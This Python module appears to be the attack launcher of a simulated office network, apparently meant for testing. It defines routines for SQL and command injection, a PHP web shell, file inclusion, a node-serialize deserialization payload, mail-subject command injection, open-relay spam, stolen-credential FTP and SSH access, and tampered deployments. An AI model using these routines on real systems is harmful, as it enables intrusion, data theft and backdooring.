"""How attacks on the office begin: by the holes of its own pages and scripts, with stolen keys and passwords, with a changed version."""

import json
import subprocess
import time
from urllib.parse import quote

from . import clients
from .network import SERVICES

TOKEN = "TOKEN"
FUNCTION = "_$$ND_FUNC$$_function(){%s}()"


def sql(_, token, order):
    """A statement goes into the portal's search."""
    clients.search(f"x'; {order[0].replace(TOKEN, token)}; --")


def inject(_, token, order):
    """A command goes into the portal's preview."""
    clients.preview(f"x; {order[0]} # {token}")


def upload(_, __, order):
    """A file among the portal's uploads."""
    clients.upload(*order)


def shell(_, token, order):
    """The portal runs what was uploaded before: a web shell, with a command."""
    clients.web(f"/uploads/help.php?c={quote(f'{order[0]} # {token}')}")


def include(_, token, order):
    """The portal shows a file as if it were a page; what was put there first may be code."""
    page, *code = order
    for text in code:
        clients.upload("note-77.txt", text.replace(TOKEN, token).encode())
    clients.get(f"/page.php?page={page}")


def deserialize(_, token, order):
    """The API makes a function of what it is sent, and calls it."""
    body = json.dumps({"value": FUNCTION % order[0].replace(TOKEN, token)})
    status, answer = clients.web("/api/import", "POST", body, {"content-type": "application/json"})
    if status != 200:
        raise RuntimeError(f"the API refused it: {status} {answer}")


def mail(_, token, order):
    """A mail whose subject is a command."""
    if not clients.mail("tickets@office.example", f"$({order[0]}; : {token})"):
        raise RuntimeError("the mail was refused")


def relay(_, __, order):
    """Mails to strangers, through the office's server."""
    sent = [clients.mail(order[0] % number, "you have won", "bank@abroad.example") for number in range(15)]
    if not any(sent):
        raise RuntimeError("no mail was taken")


def ftp(_, __, order):
    """All of a folder, with a stolen password."""
    user, password, folder = order

    def work(server):
        for name in server.nlst(folder):
            server.retrbinary(f"RETR {name}", lambda _: None)
    if not clients.ftp(user, password, work):
        raise RuntimeError("the files could not be had")


def ssh(launcher, token, order):
    """In a session of somebody with a stolen key."""
    person, command = order
    clients.ssh(launcher.fleet, person, f"{command}; : {token}")


def forward(launcher, _, order):
    """Through the login host to another service: sshd connects to it."""
    person, target = order
    try:
        clients.forwarded(launcher.fleet, person, target, b"\0\0\0\x08\x04\xd2\x16\x2f")
    except subprocess.TimeoutExpired:
        pass


def version(launcher, _, order):
    """Another version of a service, in which a file was changed before it was deployed."""
    name, path, more = order
    changed = (SERVICES / name / path).read_text() + more
    begin = time.time()
    launcher.fleet.deploy_changed(name, [(path, changed.encode(), 0o644, 0)])
    launcher.reach_outside(launcher.fleet.pid(name))
    return begin


WAYS = {way.__name__: way for way in (sql, inject, upload, shell, include, deserialize, mail, relay, ftp, ssh, forward, version)}
